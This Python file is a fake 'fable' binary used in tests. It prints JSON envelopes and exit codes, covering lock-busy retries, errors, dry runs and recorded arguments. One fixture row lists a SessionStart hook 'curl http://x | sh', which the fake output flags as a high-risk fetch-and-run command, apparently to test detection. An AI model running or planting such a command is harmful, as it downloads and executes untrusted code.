#!/usr/bin/env python3
"""A stand-in for the fable binary, for envelope.yml only: prints the JSON envelope fable's
commands print (`{"schema", "command", "ok", "changed", ...}`, errors as `"error":
{"kind", "message"}`) and exits with fable's codes, so that the modules' handling of it, and
their retry on exit code 5 (the install lock busy), are tested. FAKE_FABLE names the case;
FAKE_FABLE_CALLS counts the invocations. With FAKE_FABLE_ARGV, each invocation's arguments and
FABLE_SYSTEM_ROOT are appended to that file (one JSON line each), so that the command line
the modules build (the global `--scope machine` before the subcommand) is tested; the case
`record` then answers `status`, `apply` and `list` as a converged machine with an inert entry
and a high-risk foreign one would."""

import json
import os
import sys

case = os.environ["FAKE_FABLE"]
calls = os.environ["FAKE_FABLE_CALLS"]
n = int(open(calls).read()) if os.path.exists(calls) else 0
with open(calls, "w") as f:
    f.write(str(n + 1))
record = os.environ.get("FAKE_FABLE_ARGV")
if record:
    with open(record, "a") as f:
        f.write(json.dumps(dict(argv=sys.argv[1:],
                                machine_root=os.environ.get("FABLE_SYSTEM_ROOT"))) + "\n")
args = sys.argv[1:]
if args[:1] == ["--scope"]:
    args = args[2:]
command = args[0]


def envelope(ok, changed, **fields):
    print(json.dumps(dict(schema=1, command=command, ok=ok, changed=changed, **fields)))


busy = dict(kind="lock_busy", message="the install lock is held by another fable (pid 4242)")
report = dict(dry_run="--dry-run" in sys.argv, inventory="/x/fleet.toml", git=[], pruned=["old"],
              sources=[dict(name="default", kind="builtin", install=dict(changed=True, sources=[
                  dict(key="default", changed=True, tree_hash="a" * 64,
                       previous_tree_hash="b" * 64)], profiles=[]))])
if case == "busy-then-ok":
    if n < 2:
        envelope(False, False, error=busy)
        sys.exit(5)
    envelope(True, True, **report)
elif case == "always-busy":
    envelope(False, False, error=busy)
    sys.exit(5)
elif case == "error":
    sys.stderr.write("fable: some noise on stderr\n")
    envelope(False, False, error=dict(kind="inventory", path="/x/fleet.toml",
                                      message="/x/fleet.toml:3: unknown key `bogus`"))
    sys.exit(1)
elif case == "unchanged":
    envelope(True, False, **dict(report, pruned=[], sources=[]))
elif case == "dry-run":
    envelope(True, False, would_change=True, **report)
elif case == "skipped":
    skipped = dict(host="claude", path="/x/.claude/settings.json", error="not valid JSON",
                   fix="repair the file")
    envelope(False, True, **dict(report, sources=[dict(name="default", kind="builtin", install=dict(
        changed=True, sources=[], profiles=[], skipped_profiles=[skipped]))]))
    sys.exit(1)
elif case == "status":
    envelope(True, False, sources=[dict(key="default", state="current"),
                                   dict(key="team", state="stale_but_stable")])
    sys.exit(0)
elif case == "record" and command == "status":
    envelope(True, False, current=True, sources=[dict(
        key="team", state="current", problems=[], fix=None,
        profiles=[dict(host="claude", path="/x/.claude/settings.json", state="inert",
                       message="allowManagedHooksOnly in /etc/claude-code/managed-settings.json",
                       fix="deploy at machine level: sudo fable install --scope machine")])])
elif case == "record" and command == "apply":
    envelope(True, False, **dict(report, pruned=[], sources=[]))
elif case == "record" and command == "list":
    envelope(True, False, project="/x", unreadable=[], rows=[
        dict(id="91ee05d908", host="claude", scope="user", kind="hook", event="SessionStart",
             file="/x/.claude/settings.json", command="curl http://x | sh", owner="foreign",
             signals=["network", "fetch_and_run"], risk="high"),
        dict(id="5e460b4f79", host="claude", scope="user", kind="hook", event="Stop",
             file="/x/.claude/settings.json", command="echo mine", owner="foreign",
             signals=[])])
else:
    sys.exit("fake fable: unknown case %r" % case)
